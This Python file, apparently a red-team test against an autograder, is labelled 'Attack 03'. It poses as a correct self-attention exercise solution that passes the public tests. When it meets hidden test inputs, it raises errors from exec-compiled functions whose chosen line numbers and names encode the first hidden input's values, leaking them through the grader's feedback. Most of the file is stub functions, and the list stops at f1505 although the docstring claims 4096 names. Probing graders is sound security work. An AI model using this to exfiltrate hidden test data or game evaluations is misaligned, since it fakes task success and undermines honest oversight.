"""Attack 03 (hidden values, after publication): hidden inputs carried out through the one
thing the feedback tells of a hidden failure: where the error was raised.

docs/SECURITY.md keeps of a hidden test's error only "its code and ... the cell and line, and that
line read from the grader's own copy of the submission", and calls what is left "a few bits per
hidden test". But the child chooses the line number (and the function name) of the frame it
reports: it compiles a one-line function with this file's own name at any line it likes. With
4096 defined function names and a region of 4096 non-blank lines, one hidden error carries 24
bits; every step shows one, so six steps carry 18 bytes: here the first nine values of the first
hidden case's X, as float16. Public tests all pass (this is a correct solution otherwise).
"""
import sys

import numpy as np
import pandas as pd

PUBLIC_X = {((1, 4), -1.6), ((5, 6), -12.2), ((4, 3), -75.5), ((3, 4), 9.0)}
_FILE = sys._getframe().f_code.co_filename  # the name the grader gave this file's cell
STATE = {"stream": None, "told": set()}
STEP_INDEX = {"make_qkv": 0, "scores": 1, "softmax": 2, "mix": 3, "self_attention": 4, "most_attended": 5}


def _fingerprint(X):
    X = np.asarray(X, dtype=float)
    return (X.shape, round(float(X.sum()), 6))


def _hidden(X):
    return _fingerprint(X) not in PUBLIC_X


def _remember(X):
    if STATE["stream"] is None:
        STATE["stream"] = np.asarray(X, dtype=float).ravel().astype("<f2").tobytes() + bytes(18)


def _tell(step):
    """Raise from a frame whose line and function name spell the step's 3 bytes of the stream."""
    k = STEP_INDEX[step]
    STATE["told"].add(step)
    chunk = STATE["stream"][3 * k:3 * k + 3]
    value = int.from_bytes(chunk, "big")
    function, line = value >> 12, 4200 + (value & 0xFFF)
    source = "\n" * (line - 2) + f"def f{function:04d}():\n    raise ValueError('x')\n"
    scope = {}
    exec(compile(source, _FILE, "exec"), scope)
    scope[f"f{function:04d}"]()


def _due(step):
    return STATE["stream"] is not None and step not in STATE["told"]


def make_qkv(X, W_Q, W_K, W_V):
    if _hidden(X):
        _remember(X)
        if _due("make_qkv"):
            _tell("make_qkv")
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _due("scores"):
        _tell("scores")
    return Q @ K.T


def softmax(x):
    if _due("softmax"):
        _tell("softmax")
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    if _due("mix"):
        _tell("mix")
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    if _hidden(X):  # a child of its own: it reads the same first hidden X again
        _remember(X)
        if _due("self_attention"):
            _tell("self_attention")
    Q, K, V = X @ W_Q, X @ W_K, X @ W_V
    s = Q @ K.T / np.sqrt(K.shape[1])
    e = np.exp(s - s.max(axis=-1, keepdims=True))
    w = e / e.sum(axis=-1, keepdims=True)
    return w @ V, w


def most_attended(weights, words):
    if _due("most_attended"):
        _tell("most_attended")
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()


# The function names a hidden frame may name (each must be defined in this file's text).

def f0000(): pass
def f0001(): pass
def f0002(): pass
def f0003(): pass
def f0004(): pass
def f0005(): pass
def f0006(): pass
def f0007(): pass
def f0008(): pass
def f0009(): pass
def f0010(): pass
def f0011(): pass
def f0012(): pass
def f0013(): pass
def f0014(): pass
def f0015(): pass
def f0016(): pass
def f0017(): pass
def f0018(): pass
def f0019(): pass
def f0020(): pass
def f0021(): pass
def f0022(): pass
def f0023(): pass
def f0024(): pass
def f0025(): pass
def f0026(): pass
def f0027(): pass
def f0028(): pass
def f0029(): pass
def f0030(): pass
def f0031(): pass
def f0032(): pass
def f0033(): pass
def f0034(): pass
def f0035(): pass
def f0036(): pass
def f0037(): pass
def f0038(): pass
def f0039(): pass
def f0040(): pass
def f0041(): pass
def f0042(): pass
def f0043(): pass
def f0044(): pass
def f0045(): pass
def f0046(): pass
def f0047(): pass
def f0048(): pass
def f0049(): pass
def f0050(): pass
def f0051(): pass
def f0052(): pass
def f0053(): pass
def f0054(): pass
def f0055(): pass
def f0056(): pass
def f0057(): pass
def f0058(): pass
def f0059(): pass
def f0060(): pass
def f0061(): pass
def f0062(): pass
def f0063(): pass
def f0064(): pass
def f0065(): pass
def f0066(): pass
def f0067(): pass
def f0068(): pass
def f0069(): pass
def f0070(): pass
def f0071(): pass
def f0072(): pass
def f0073(): pass
def f0074(): pass
def f0075(): pass
def f0076(): pass
def f0077(): pass
def f0078(): pass
def f0079(): pass
def f0080(): pass
def f0081(): pass
def f0082(): pass
def f0083(): pass
def f0084(): pass
def f0085(): pass
def f0086(): pass
def f0087(): pass
def f0088(): pass
def f0089(): pass
def f0090(): pass
def f0091(): pass
def f0092(): pass
def f0093(): pass
def f0094(): pass
def f0095(): pass
def f0096(): pass
def f0097(): pass
def f0098(): pass
def f0099(): pass
def f0100(): pass
def f0101(): pass
def f0102(): pass
def f0103(): pass
def f0104(): pass
def f0105(): pass
def f0106(): pass
def f0107(): pass
def f0108(): pass
def f0109(): pass
def f0110(): pass
def f0111(): pass
def f0112(): pass
def f0113(): pass
def f0114(): pass
def f0115(): pass
def f0116(): pass
def f0117(): pass
def f0118(): pass
def f0119(): pass
def f0120(): pass
def f0121(): pass
def f0122(): pass
def f0123(): pass
def f0124(): pass
def f0125(): pass
def f0126(): pass
def f0127(): pass
def f0128(): pass
def f0129(): pass
def f0130(): pass
def f0131(): pass
def f0132(): pass
def f0133(): pass
def f0134(): pass
def f0135(): pass
def f0136(): pass
def f0137(): pass
def f0138(): pass
def f0139(): pass
def f0140(): pass
def f0141(): pass
def f0142(): pass
def f0143(): pass
def f0144(): pass
def f0145(): pass
def f0146(): pass
def f0147(): pass
def f0148(): pass
def f0149(): pass
def f0150(): pass
def f0151(): pass
def f0152(): pass
def f0153(): pass
def f0154(): pass
def f0155(): pass
def f0156(): pass
def f0157(): pass
def f0158(): pass
def f0159(): pass
def f0160(): pass
def f0161(): pass
def f0162(): pass
def f0163(): pass
def f0164(): pass
def f0165(): pass
def f0166(): pass
def f0167(): pass
def f0168(): pass
def f0169(): pass
def f0170(): pass
def f0171(): pass
def f0172(): pass
def f0173(): pass
def f0174(): pass
def f0175(): pass
def f0176(): pass
def f0177(): pass
def f0178(): pass
def f0179(): pass
def f0180(): pass
def f0181(): pass
def f0182(): pass
def f0183(): pass
def f0184(): pass
def f0185(): pass
def f0186(): pass
def f0187(): pass
def f0188(): pass
def f0189(): pass
def f0190(): pass
def f0191(): pass
def f0192(): pass
def f0193(): pass
def f0194(): pass
def f0195(): pass
def f0196(): pass
def f0197(): pass
def f0198(): pass
def f0199(): pass
def f0200(): pass
def f0201(): pass
def f0202(): pass
def f0203(): pass
def f0204(): pass
def f0205(): pass
def f0206(): pass
def f0207(): pass
def f0208(): pass
def f0209(): pass
def f0210(): pass
def f0211(): pass
def f0212(): pass
def f0213(): pass
def f0214(): pass
def f0215(): pass
def f0216(): pass
def f0217(): pass
def f0218(): pass
def f0219(): pass
def f0220(): pass
def f0221(): pass
def f0222(): pass
def f0223(): pass
def f0224(): pass
def f0225(): pass
def f0226(): pass
def f0227(): pass
def f0228(): pass
def f0229(): pass
def f0230(): pass
def f0231(): pass
def f0232(): pass
def f0233(): pass
def f0234(): pass
def f0235(): pass
def f0236(): pass
def f0237(): pass
def f0238(): pass
def f0239(): pass
def f0240(): pass
def f0241(): pass
def f0242(): pass
def f0243(): pass
def f0244(): pass
def f0245(): pass
def f0246(): pass
def f0247(): pass
def f0248(): pass
def f0249(): pass
def f0250(): pass
def f0251(): pass
def f0252(): pass
def f0253(): pass
def f0254(): pass
def f0255(): pass
def f0256(): pass
def f0257(): pass
def f0258(): pass
def f0259(): pass
def f0260(): pass
def f0261(): pass
def f0262(): pass
def f0263(): pass
def f0264(): pass
def f0265(): pass
def f0266(): pass
def f0267(): pass
def f0268(): pass
def f0269(): pass
def f0270(): pass
def f0271(): pass
def f0272(): pass
def f0273(): pass
def f0274(): pass
def f0275(): pass
def f0276(): pass
def f0277(): pass
def f0278(): pass
def f0279(): pass
def f0280(): pass
def f0281(): pass
def f0282(): pass
def f0283(): pass
def f0284(): pass
def f0285(): pass
def f0286(): pass
def f0287(): pass
def f0288(): pass
def f0289(): pass
def f0290(): pass
def f0291(): pass
def f0292(): pass
def f0293(): pass
def f0294(): pass
def f0295(): pass
def f0296(): pass
def f0297(): pass
def f0298(): pass
def f0299(): pass
def f0300(): pass
def f0301(): pass
def f0302(): pass
def f0303(): pass
def f0304(): pass
def f0305(): pass
def f0306(): pass
def f0307(): pass
def f0308(): pass
def f0309(): pass
def f0310(): pass
def f0311(): pass
def f0312(): pass
def f0313(): pass
def f0314(): pass
def f0315(): pass
def f0316(): pass
def f0317(): pass
def f0318(): pass
def f0319(): pass
def f0320(): pass
def f0321(): pass
def f0322(): pass
def f0323(): pass
def f0324(): pass
def f0325(): pass
def f0326(): pass
def f0327(): pass
def f0328(): pass
def f0329(): pass
def f0330(): pass
def f0331(): pass
def f0332(): pass
def f0333(): pass
def f0334(): pass
def f0335(): pass
def f0336(): pass
def f0337(): pass
def f0338(): pass
def f0339(): pass
def f0340(): pass
def f0341(): pass
def f0342(): pass
def f0343(): pass
def f0344(): pass
def f0345(): pass
def f0346(): pass
def f0347(): pass
def f0348(): pass
def f0349(): pass
def f0350(): pass
def f0351(): pass
def f0352(): pass
def f0353(): pass
def f0354(): pass
def f0355(): pass
def f0356(): pass
def f0357(): pass
def f0358(): pass
def f0359(): pass
def f0360(): pass
def f0361(): pass
def f0362(): pass
def f0363(): pass
def f0364(): pass
def f0365(): pass
def f0366(): pass
def f0367(): pass
def f0368(): pass
def f0369(): pass
def f0370(): pass
def f0371(): pass
def f0372(): pass
def f0373(): pass
def f0374(): pass
def f0375(): pass
def f0376(): pass
def f0377(): pass
def f0378(): pass
def f0379(): pass
def f0380(): pass
def f0381(): pass
def f0382(): pass
def f0383(): pass
def f0384(): pass
def f0385(): pass
def f0386(): pass
def f0387(): pass
def f0388(): pass
def f0389(): pass
def f0390(): pass
def f0391(): pass
def f0392(): pass
def f0393(): pass
def f0394(): pass
def f0395(): pass
def f0396(): pass
def f0397(): pass
def f0398(): pass
def f0399(): pass
def f0400(): pass
def f0401(): pass
def f0402(): pass
def f0403(): pass
def f0404(): pass
def f0405(): pass
def f0406(): pass
def f0407(): pass
def f0408(): pass
def f0409(): pass
def f0410(): pass
def f0411(): pass
def f0412(): pass
def f0413(): pass
def f0414(): pass
def f0415(): pass
def f0416(): pass
def f0417(): pass
def f0418(): pass
def f0419(): pass
def f0420(): pass
def f0421(): pass
def f0422(): pass
def f0423(): pass
def f0424(): pass
def f0425(): pass
def f0426(): pass
def f0427(): pass
def f0428(): pass
def f0429(): pass
def f0430(): pass
def f0431(): pass
def f0432(): pass
def f0433(): pass
def f0434(): pass
def f0435(): pass
def f0436(): pass
def f0437(): pass
def f0438(): pass
def f0439(): pass
def f0440(): pass
def f0441(): pass
def f0442(): pass
def f0443(): pass
def f0444(): pass
def f0445(): pass
def f0446(): pass
def f0447(): pass
def f0448(): pass
def f0449(): pass
def f0450(): pass
def f0451(): pass
def f0452(): pass
def f0453(): pass
def f0454(): pass
def f0455(): pass
def f0456(): pass
def f0457(): pass
def f0458(): pass
def f0459(): pass
def f0460(): pass
def f0461(): pass
def f0462(): pass
def f0463(): pass
def f0464(): pass
def f0465(): pass
def f0466(): pass
def f0467(): pass
def f0468(): pass
def f0469(): pass
def f0470(): pass
def f0471(): pass
def f0472(): pass
def f0473(): pass
def f0474(): pass
def f0475(): pass
def f0476(): pass
def f0477(): pass
def f0478(): pass
def f0479(): pass
def f0480(): pass
def f0481(): pass
def f0482(): pass
def f0483(): pass
def f0484(): pass
def f0485(): pass
def f0486(): pass
def f0487(): pass
def f0488(): pass
def f0489(): pass
def f0490(): pass
def f0491(): pass
def f0492(): pass
def f0493(): pass
def f0494(): pass
def f0495(): pass
def f0496(): pass
def f0497(): pass
def f0498(): pass
def f0499(): pass
def f0500(): pass
def f0501(): pass
def f0502(): pass
def f0503(): pass
def f0504(): pass
def f0505(): pass
def f0506(): pass
def f0507(): pass
def f0508(): pass
def f0509(): pass
def f0510(): pass
def f0511(): pass
def f0512(): pass
def f0513(): pass
def f0514(): pass
def f0515(): pass
def f0516(): pass
def f0517(): pass
def f0518(): pass
def f0519(): pass
def f0520(): pass
def f0521(): pass
def f0522(): pass
def f0523(): pass
def f0524(): pass
def f0525(): pass
def f0526(): pass
def f0527(): pass
def f0528(): pass
def f0529(): pass
def f0530(): pass
def f0531(): pass
def f0532(): pass
def f0533(): pass
def f0534(): pass
def f0535(): pass
def f0536(): pass
def f0537(): pass
def f0538(): pass
def f0539(): pass
def f0540(): pass
def f0541(): pass
def f0542(): pass
def f0543(): pass
def f0544(): pass
def f0545(): pass
def f0546(): pass
def f0547(): pass
def f0548(): pass
def f0549(): pass
def f0550(): pass
def f0551(): pass
def f0552(): pass
def f0553(): pass
def f0554(): pass
def f0555(): pass
def f0556(): pass
def f0557(): pass
def f0558(): pass
def f0559(): pass
def f0560(): pass
def f0561(): pass
def f0562(): pass
def f0563(): pass
def f0564(): pass
def f0565(): pass
def f0566(): pass
def f0567(): pass
def f0568(): pass
def f0569(): pass
def f0570(): pass
def f0571(): pass
def f0572(): pass
def f0573(): pass
def f0574(): pass
def f0575(): pass
def f0576(): pass
def f0577(): pass
def f0578(): pass
def f0579(): pass
def f0580(): pass
def f0581(): pass
def f0582(): pass
def f0583(): pass
def f0584(): pass
def f0585(): pass
def f0586(): pass
def f0587(): pass
def f0588(): pass
def f0589(): pass
def f0590(): pass
def f0591(): pass
def f0592(): pass
def f0593(): pass
def f0594(): pass
def f0595(): pass
def f0596(): pass
def f0597(): pass
def f0598(): pass
def f0599(): pass
def f0600(): pass
def f0601(): pass
def f0602(): pass
def f0603(): pass
def f0604(): pass
def f0605(): pass
def f0606(): pass
def f0607(): pass
def f0608(): pass
def f0609(): pass
def f0610(): pass
def f0611(): pass
def f0612(): pass
def f0613(): pass
def f0614(): pass
def f0615(): pass
def f0616(): pass
def f0617(): pass
def f0618(): pass
def f0619(): pass
def f0620(): pass
def f0621(): pass
def f0622(): pass
def f0623(): pass
def f0624(): pass
def f0625(): pass
def f0626(): pass
def f0627(): pass
def f0628(): pass
def f0629(): pass
def f0630(): pass
def f0631(): pass
def f0632(): pass
def f0633(): pass
def f0634(): pass
def f0635(): pass
def f0636(): pass
def f0637(): pass
def f0638(): pass
def f0639(): pass
def f0640(): pass
def f0641(): pass
def f0642(): pass
def f0643(): pass
def f0644(): pass
def f0645(): pass
def f0646(): pass
def f0647(): pass
def f0648(): pass
def f0649(): pass
def f0650(): pass
def f0651(): pass
def f0652(): pass
def f0653(): pass
def f0654(): pass
def f0655(): pass
def f0656(): pass
def f0657(): pass
def f0658(): pass
def f0659(): pass
def f0660(): pass
def f0661(): pass
def f0662(): pass
def f0663(): pass
def f0664(): pass
def f0665(): pass
def f0666(): pass
def f0667(): pass
def f0668(): pass
def f0669(): pass
def f0670(): pass
def f0671(): pass
def f0672(): pass
def f0673(): pass
def f0674(): pass
def f0675(): pass
def f0676(): pass
def f0677(): pass
def f0678(): pass
def f0679(): pass
def f0680(): pass
def f0681(): pass
def f0682(): pass
def f0683(): pass
def f0684(): pass
def f0685(): pass
def f0686(): pass
def f0687(): pass
def f0688(): pass
def f0689(): pass
def f0690(): pass
def f0691(): pass
def f0692(): pass
def f0693(): pass
def f0694(): pass
def f0695(): pass
def f0696(): pass
def f0697(): pass
def f0698(): pass
def f0699(): pass
def f0700(): pass
def f0701(): pass
def f0702(): pass
def f0703(): pass
def f0704(): pass
def f0705(): pass
def f0706(): pass
def f0707(): pass
def f0708(): pass
def f0709(): pass
def f0710(): pass
def f0711(): pass
def f0712(): pass
def f0713(): pass
def f0714(): pass
def f0715(): pass
def f0716(): pass
def f0717(): pass
def f0718(): pass
def f0719(): pass
def f0720(): pass
def f0721(): pass
def f0722(): pass
def f0723(): pass
def f0724(): pass
def f0725(): pass
def f0726(): pass
def f0727(): pass
def f0728(): pass
def f0729(): pass
def f0730(): pass
def f0731(): pass
def f0732(): pass
def f0733(): pass
def f0734(): pass
def f0735(): pass
def f0736(): pass
def f0737(): pass
def f0738(): pass
def f0739(): pass
def f0740(): pass
def f0741(): pass
def f0742(): pass
def f0743(): pass
def f0744(): pass
def f0745(): pass
def f0746(): pass
def f0747(): pass
def f0748(): pass
def f0749(): pass
def f0750(): pass
def f0751(): pass
def f0752(): pass
def f0753(): pass
def f0754(): pass
def f0755(): pass
def f0756(): pass
def f0757(): pass
def f0758(): pass
def f0759(): pass
def f0760(): pass
def f0761(): pass
def f0762(): pass
def f0763(): pass
def f0764(): pass
def f0765(): pass
def f0766(): pass
def f0767(): pass
def f0768(): pass
def f0769(): pass
def f0770(): pass
def f0771(): pass
def f0772(): pass
def f0773(): pass
def f0774(): pass
def f0775(): pass
def f0776(): pass
def f0777(): pass
def f0778(): pass
def f0779(): pass
def f0780(): pass
def f0781(): pass
def f0782(): pass
def f0783(): pass
def f0784(): pass
def f0785(): pass
def f0786(): pass
def f0787(): pass
def f0788(): pass
def f0789(): pass
def f0790(): pass
def f0791(): pass
def f0792(): pass
def f0793(): pass
def f0794(): pass
def f0795(): pass
def f0796(): pass
def f0797(): pass
def f0798(): pass
def f0799(): pass
def f0800(): pass
def f0801(): pass
def f0802(): pass
def f0803(): pass
def f0804(): pass
def f0805(): pass
def f0806(): pass
def f0807(): pass
def f0808(): pass
def f0809(): pass
def f0810(): pass
def f0811(): pass
def f0812(): pass
def f0813(): pass
def f0814(): pass
def f0815(): pass
def f0816(): pass
def f0817(): pass
def f0818(): pass
def f0819(): pass
def f0820(): pass
def f0821(): pass
def f0822(): pass
def f0823(): pass
def f0824(): pass
def f0825(): pass
def f0826(): pass
def f0827(): pass
def f0828(): pass
def f0829(): pass
def f0830(): pass
def f0831(): pass
def f0832(): pass
def f0833(): pass
def f0834(): pass
def f0835(): pass
def f0836(): pass
def f0837(): pass
def f0838(): pass
def f0839(): pass
def f0840(): pass
def f0841(): pass
def f0842(): pass
def f0843(): pass
def f0844(): pass
def f0845(): pass
def f0846(): pass
def f0847(): pass
def f0848(): pass
def f0849(): pass
def f0850(): pass
def f0851(): pass
def f0852(): pass
def f0853(): pass
def f0854(): pass
def f0855(): pass
def f0856(): pass
def f0857(): pass
def f0858(): pass
def f0859(): pass
def f0860(): pass
def f0861(): pass
def f0862(): pass
def f0863(): pass
def f0864(): pass
def f0865(): pass
def f0866(): pass
def f0867(): pass
def f0868(): pass
def f0869(): pass
def f0870(): pass
def f0871(): pass
def f0872(): pass
def f0873(): pass
def f0874(): pass
def f0875(): pass
def f0876(): pass
def f0877(): pass
def f0878(): pass
def f0879(): pass
def f0880(): pass
def f0881(): pass
def f0882(): pass
def f0883(): pass
def f0884(): pass
def f0885(): pass
def f0886(): pass
def f0887(): pass
def f0888(): pass
def f0889(): pass
def f0890(): pass
def f0891(): pass
def f0892(): pass
def f0893(): pass
def f0894(): pass
def f0895(): pass
def f0896(): pass
def f0897(): pass
def f0898(): pass
def f0899(): pass
def f0900(): pass
def f0901(): pass
def f0902(): pass
def f0903(): pass
def f0904(): pass
def f0905(): pass
def f0906(): pass
def f0907(): pass
def f0908(): pass
def f0909(): pass
def f0910(): pass
def f0911(): pass
def f0912(): pass
def f0913(): pass
def f0914(): pass
def f0915(): pass
def f0916(): pass
def f0917(): pass
def f0918(): pass
def f0919(): pass
def f0920(): pass
def f0921(): pass
def f0922(): pass
def f0923(): pass
def f0924(): pass
def f0925(): pass
def f0926(): pass
def f0927(): pass
def f0928(): pass
def f0929(): pass
def f0930(): pass
def f0931(): pass
def f0932(): pass
def f0933(): pass
def f0934(): pass
def f0935(): pass
def f0936(): pass
def f0937(): pass
def f0938(): pass
def f0939(): pass
def f0940(): pass
def f0941(): pass
def f0942(): pass
def f0943(): pass
def f0944(): pass
def f0945(): pass
def f0946(): pass
def f0947(): pass
def f0948(): pass
def f0949(): pass
def f0950(): pass
def f0951(): pass
def f0952(): pass
def f0953(): pass
def f0954(): pass
def f0955(): pass
def f0956(): pass
def f0957(): pass
def f0958(): pass
def f0959(): pass
def f0960(): pass
def f0961(): pass
def f0962(): pass
def f0963(): pass
def f0964(): pass
def f0965(): pass
def f0966(): pass
def f0967(): pass
def f0968(): pass
def f0969(): pass
def f0970(): pass
def f0971(): pass
def f0972(): pass
def f0973(): pass
def f0974(): pass
def f0975(): pass
def f0976(): pass
def f0977(): pass
def f0978(): pass
def f0979(): pass
def f0980(): pass
def f0981(): pass
def f0982(): pass
def f0983(): pass
def f0984(): pass
def f0985(): pass
def f0986(): pass
def f0987(): pass
def f0988(): pass
def f0989(): pass
def f0990(): pass
def f0991(): pass
def f0992(): pass
def f0993(): pass
def f0994(): pass
def f0995(): pass
def f0996(): pass
def f0997(): pass
def f0998(): pass
def f0999(): pass
def f1000(): pass
def f1001(): pass
def f1002(): pass
def f1003(): pass
def f1004(): pass
def f1005(): pass
def f1006(): pass
def f1007(): pass
def f1008(): pass
def f1009(): pass
def f1010(): pass
def f1011(): pass
def f1012(): pass
def f1013(): pass
def f1014(): pass
def f1015(): pass
def f1016(): pass
def f1017(): pass
def f1018(): pass
def f1019(): pass
def f1020(): pass
def f1021(): pass
def f1022(): pass
def f1023(): pass
def f1024(): pass
def f1025(): pass
def f1026(): pass
def f1027(): pass
def f1028(): pass
def f1029(): pass
def f1030(): pass
def f1031(): pass
def f1032(): pass
def f1033(): pass
def f1034(): pass
def f1035(): pass
def f1036(): pass
def f1037(): pass
def f1038(): pass
def f1039(): pass
def f1040(): pass
def f1041(): pass
def f1042(): pass
def f1043(): pass
def f1044(): pass
def f1045(): pass
def f1046(): pass
def f1047(): pass
def f1048(): pass
def f1049(): pass
def f1050(): pass
def f1051(): pass
def f1052(): pass
def f1053(): pass
def f1054(): pass
def f1055(): pass
def f1056(): pass
def f1057(): pass
def f1058(): pass
def f1059(): pass
def f1060(): pass
def f1061(): pass
def f1062(): pass
def f1063(): pass
def f1064(): pass
def f1065(): pass
def f1066(): pass
def f1067(): pass
def f1068(): pass
def f1069(): pass
def f1070(): pass
def f1071(): pass
def f1072(): pass
def f1073(): pass
def f1074(): pass
def f1075(): pass
def f1076(): pass
def f1077(): pass
def f1078(): pass
def f1079(): pass
def f1080(): pass
def f1081(): pass
def f1082(): pass
def f1083(): pass
def f1084(): pass
def f1085(): pass
def f1086(): pass
def f1087(): pass
def f1088(): pass
def f1089(): pass
def f1090(): pass
def f1091(): pass
def f1092(): pass
def f1093(): pass
def f1094(): pass
def f1095(): pass
def f1096(): pass
def f1097(): pass
def f1098(): pass
def f1099(): pass
def f1100(): pass
def f1101(): pass
def f1102(): pass
def f1103(): pass
def f1104(): pass
def f1105(): pass
def f1106(): pass
def f1107(): pass
def f1108(): pass
def f1109(): pass
def f1110(): pass
def f1111(): pass
def f1112(): pass
def f1113(): pass
def f1114(): pass
def f1115(): pass
def f1116(): pass
def f1117(): pass
def f1118(): pass
def f1119(): pass
def f1120(): pass
def f1121(): pass
def f1122(): pass
def f1123(): pass
def f1124(): pass
def f1125(): pass
def f1126(): pass
def f1127(): pass
def f1128(): pass
def f1129(): pass
def f1130(): pass
def f1131(): pass
def f1132(): pass
def f1133(): pass
def f1134(): pass
def f1135(): pass
def f1136(): pass
def f1137(): pass
def f1138(): pass
def f1139(): pass
def f1140(): pass
def f1141(): pass
def f1142(): pass
def f1143(): pass
def f1144(): pass
def f1145(): pass
def f1146(): pass
def f1147(): pass
def f1148(): pass
def f1149(): pass
def f1150(): pass
def f1151(): pass
def f1152(): pass
def f1153(): pass
def f1154(): pass
def f1155(): pass
def f1156(): pass
def f1157(): pass
def f1158(): pass
def f1159(): pass
def f1160(): pass
def f1161(): pass
def f1162(): pass
def f1163(): pass
def f1164(): pass
def f1165(): pass
def f1166(): pass
def f1167(): pass
def f1168(): pass
def f1169(): pass
def f1170(): pass
def f1171(): pass
def f1172(): pass
def f1173(): pass
def f1174(): pass
def f1175(): pass
def f1176(): pass
def f1177(): pass
def f1178(): pass
def f1179(): pass
def f1180(): pass
def f1181(): pass
def f1182(): pass
def f1183(): pass
def f1184(): pass
def f1185(): pass
def f1186(): pass
def f1187(): pass
def f1188(): pass
def f1189(): pass
def f1190(): pass
def f1191(): pass
def f1192(): pass
def f1193(): pass
def f1194(): pass
def f1195(): pass
def f1196(): pass
def f1197(): pass
def f1198(): pass
def f1199(): pass
def f1200(): pass
def f1201(): pass
def f1202(): pass
def f1203(): pass
def f1204(): pass
def f1205(): pass
def f1206(): pass
def f1207(): pass
def f1208(): pass
def f1209(): pass
def f1210(): pass
def f1211(): pass
def f1212(): pass
def f1213(): pass
def f1214(): pass
def f1215(): pass
def f1216(): pass
def f1217(): pass
def f1218(): pass
def f1219(): pass
def f1220(): pass
def f1221(): pass
def f1222(): pass
def f1223(): pass
def f1224(): pass
def f1225(): pass
def f1226(): pass
def f1227(): pass
def f1228(): pass
def f1229(): pass
def f1230(): pass
def f1231(): pass
def f1232(): pass
def f1233(): pass
def f1234(): pass
def f1235(): pass
def f1236(): pass
def f1237(): pass
def f1238(): pass
def f1239(): pass
def f1240(): pass
def f1241(): pass
def f1242(): pass
def f1243(): pass
def f1244(): pass
def f1245(): pass
def f1246(): pass
def f1247(): pass
def f1248(): pass
def f1249(): pass
def f1250(): pass
def f1251(): pass
def f1252(): pass
def f1253(): pass
def f1254(): pass
def f1255(): pass
def f1256(): pass
def f1257(): pass
def f1258(): pass
def f1259(): pass
def f1260(): pass
def f1261(): pass
def f1262(): pass
def f1263(): pass
def f1264(): pass
def f1265(): pass
def f1266(): pass
def f1267(): pass
def f1268(): pass
def f1269(): pass
def f1270(): pass
def f1271(): pass
def f1272(): pass
def f1273(): pass
def f1274(): pass
def f1275(): pass
def f1276(): pass
def f1277(): pass
def f1278(): pass
def f1279(): pass
def f1280(): pass
def f1281(): pass
def f1282(): pass
def f1283(): pass
def f1284(): pass
def f1285(): pass
def f1286(): pass
def f1287(): pass
def f1288(): pass
def f1289(): pass
def f1290(): pass
def f1291(): pass
def f1292(): pass
def f1293(): pass
def f1294(): pass
def f1295(): pass
def f1296(): pass
def f1297(): pass
def f1298(): pass
def f1299(): pass
def f1300(): pass
def f1301(): pass
def f1302(): pass
def f1303(): pass
def f1304(): pass
def f1305(): pass
def f1306(): pass
def f1307(): pass
def f1308(): pass
def f1309(): pass
def f1310(): pass
def f1311(): pass
def f1312(): pass
def f1313(): pass
def f1314(): pass
def f1315(): pass
def f1316(): pass
def f1317(): pass
def f1318(): pass
def f1319(): pass
def f1320(): pass
def f1321(): pass
def f1322(): pass
def f1323(): pass
def f1324(): pass
def f1325(): pass
def f1326(): pass
def f1327(): pass
def f1328(): pass
def f1329(): pass
def f1330(): pass
def f1331(): pass
def f1332(): pass
def f1333(): pass
def f1334(): pass
def f1335(): pass
def f1336(): pass
def f1337(): pass
def f1338(): pass
def f1339(): pass
def f1340(): pass
def f1341(): pass
def f1342(): pass
def f1343(): pass
def f1344(): pass
def f1345(): pass
def f1346(): pass
def f1347(): pass
def f1348(): pass
def f1349(): pass
def f1350(): pass
def f1351(): pass
def f1352(): pass
def f1353(): pass
def f1354(): pass
def f1355(): pass
def f1356(): pass
def f1357(): pass
def f1358(): pass
def f1359(): pass
def f1360(): pass
def f1361(): pass
def f1362(): pass
def f1363(): pass
def f1364(): pass
def f1365(): pass
def f1366(): pass
def f1367(): pass
def f1368(): pass
def f1369(): pass
def f1370(): pass
def f1371(): pass
def f1372(): pass
def f1373(): pass
def f1374(): pass
def f1375(): pass
def f1376(): pass
def f1377(): pass
def f1378(): pass
def f1379(): pass
def f1380(): pass
def f1381(): pass
def f1382(): pass
def f1383(): pass
def f1384(): pass
def f1385(): pass
def f1386(): pass
def f1387(): pass
def f1388(): pass
def f1389(): pass
def f1390(): pass
def f1391(): pass
def f1392(): pass
def f1393(): pass
def f1394(): pass
def f1395(): pass
def f1396(): pass
def f1397(): pass
def f1398(): pass
def f1399(): pass
def f1400(): pass
def f1401(): pass
def f1402(): pass
def f1403(): pass
def f1404(): pass
def f1405(): pass
def f1406(): pass
def f1407(): pass
def f1408(): pass
def f1409(): pass
def f1410(): pass
def f1411(): pass
def f1412(): pass
def f1413(): pass
def f1414(): pass
def f1415(): pass
def f1416(): pass
def f1417(): pass
def f1418(): pass
def f1419(): pass
def f1420(): pass
def f1421(): pass
def f1422(): pass
def f1423(): pass
def f1424(): pass
def f1425(): pass
def f1426(): pass
def f1427(): pass
def f1428(): pass
def f1429(): pass
def f1430(): pass
def f1431(): pass
def f1432(): pass
def f1433(): pass
def f1434(): pass
def f1435(): pass
def f1436(): pass
def f1437(): pass
def f1438(): pass
def f1439(): pass
def f1440(): pass
def f1441(): pass
def f1442(): pass
def f1443(): pass
def f1444(): pass
def f1445(): pass
def f1446(): pass
def f1447(): pass
def f1448(): pass
def f1449(): pass
def f1450(): pass
def f1451(): pass
def f1452(): pass
def f1453(): pass
def f1454(): pass
def f1455(): pass
def f1456(): pass
def f1457(): pass
def f1458(): pass
def f1459(): pass
def f1460(): pass
def f1461(): pass
def f1462(): pass
def f1463(): pass
def f1464(): pass
def f1465(): pass
def f1466(): pass
def f1467(): pass
def f1468(): pass
def f1469(): pass
def f1470(): pass
def f1471(): pass
def f1472(): pass
def f1473(): pass
def f1474(): pass
def f1475(): pass
def f1476(): pass
def f1477(): pass
def f1478(): pass
def f1479(): pass
def f1480(): pass
def f1481(): pass
def f1482(): pass
def f1483(): pass
def f1484(): pass
def f1485(): pass
def f1486(): pass
def f1487(): pass
def f1488(): pass
def f1489(): pass
def f1490(): pass
def f1491(): pass
def f1492(): pass
def f1493(): pass
def f1494(): pass
def f1495(): pass
def f1496(): pass
def f1497(): pass
def f1498(): pass
def f1499(): pass
def f1500(): pass
def f1501(): pass
def f1502(): pass
def f1503(): pass
def f1504(): pass
def f1505(): pass
